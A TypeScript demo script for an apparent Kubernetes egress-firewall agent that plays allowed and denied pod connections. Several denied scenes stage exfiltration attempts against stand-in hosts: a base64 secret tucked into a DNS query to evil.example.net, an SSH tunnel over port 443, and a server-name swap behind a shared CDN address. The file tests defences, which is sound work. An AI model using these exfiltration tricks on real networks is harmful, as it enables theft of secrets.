import { attempt, crash, type Part, revoked } from "./demo-play.ts";
import { HELLO, PORT } from "./demo-servers.ts";
import { DNS, OUTSIDE } from "./demo-world.ts";

/** What the demo plays, in order. Before the first part there is no agent. */

const https = (name: string) => ({ port: PORT.https, serverName: name, send: HELLO.http });
const postgresql = { port: PORT.postgresql, send: HELLO.postgresql };
const REFUSED = "ECONNREFUSED";
const RESET = "ECONNRESET";

export const BEFORE: Part = {
  title: "before the agent runs, a pod reaches anything",
  scenes: [
    attempt({
      title: "shop/checkout: HTTPS to evil.example.net",
      pod: "checkout",
      name: "evil.example.net",
      ...https("evil.example.net"),
      ends: "answered",
    }),
  ],
};

export const PARTS: readonly Part[] = [
  {
    title: "shop/checkout may reach the names of its policy, on the first packet",
    scenes: [
      attempt({
        title: "HTTPS to api.stripe.com, right behind the DNS reply",
        pod: "checkout",
        name: "api.stripe.com",
        ...https("api.stripe.com"),
        ends: "answered",
        event: { verdict: "allow", rule: "stripe" },
      }),
      attempt({
        title: "the same over IPv6 (only the first use of a rule is an event)",
        pod: "checkout",
        name: "api.stripe.com",
        type: "AAAA",
        server: DNS.v6,
        ...https("api.stripe.com"),
        ends: "answered",
      }),
      attempt({
        title: "PostgreSQL to orders-db.example.com; this connection stays open",
        pod: "checkout",
        name: "orders-db.example.com",
        ...postgresql,
        hold: true,
        ends: "answered",
        event: { verdict: "allow", rule: "orders-db" },
      }),
    ],
  },
  {
    title: "and nothing else: refused at once, not left hanging",
    scenes: [
      attempt({
        title: "api.stripe.com on another port",
        pod: "checkout",
        address: OUTSIDE.stripe,
        port: PORT.other,
        ends: REFUSED,
        event: { verdict: "deny", why: "wrong-port" },
      }),
      attempt({
        title: "an address that no DNS reply named",
        pod: "checkout",
        address: OUTSIDE.unnamed,
        port: PORT.https,
        ends: REFUSED,
        event: { verdict: "deny", why: "no-name" },
      }),
      attempt({
        title: "paste.example.net, behind the same CDN address as api.stripe.com",
        pod: "checkout",
        address: OUTSIDE.stripe,
        ...https("paste.example.net"),
        ends: RESET,
        event: { verdict: "deny", why: "wrong-server-name" },
      }),
      attempt({
        title: "an SSH tunnel to that address on port 443",
        pod: "checkout",
        address: OUTSIDE.stripe,
        port: PORT.https,
        send: HELLO.ssh,
        ends: RESET,
        event: { verdict: "deny", why: "wrong-protocol" },
      }),
      attempt({
        title: "data smuggled out in a DNS query",
        pod: "checkout",
        name: "c2VjcmV0LWtleQ.evil.example.net",
        ends: "EREFUSED",
        event: { verdict: "deny", why: "name-not-allowed" },
      }),
    ],
  },
  {
    title: "other pods, other policies",
    scenes: [
      attempt({
        title: "shop/frontend: HTTPS to images.example.org, as its policy says",
        pod: "frontend",
        name: "images.example.org",
        ...https("images.example.org"),
        ends: "answered",
        event: { verdict: "allow", rule: "images" },
      }),
      attempt({
        title: "shop/frontend: evil.example.net, which it may look up but not reach",
        pod: "frontend",
        name: "evil.example.net",
        ...https("evil.example.net"),
        ends: REFUSED,
        event: { verdict: "deny", why: "wrong-name" },
      }),
      attempt({
        title: "shop/frontend: the address that shop/checkout has learned",
        pod: "frontend",
        address: OUTSIDE.stripe,
        ...https("api.stripe.com"),
        ends: REFUSED,
        event: { verdict: "deny", why: "no-name" },
      }),
      attempt({
        title: "shop/reports, in Monitor mode: evil.example.net passes, and is told",
        pod: "reports",
        name: "evil.example.net",
        ...https("evil.example.net"),
        ends: "answered",
        event: { verdict: "would-deny" },
      }),
    ],
  },
  {
    title: "the agent dies and comes back; a policy changes",
    scenes: [
      ...crash(),
      { title: "orders-db is taken out of the policy, while the PostgreSQL connection from above is still open", play: revoked },
    ],
  },
];
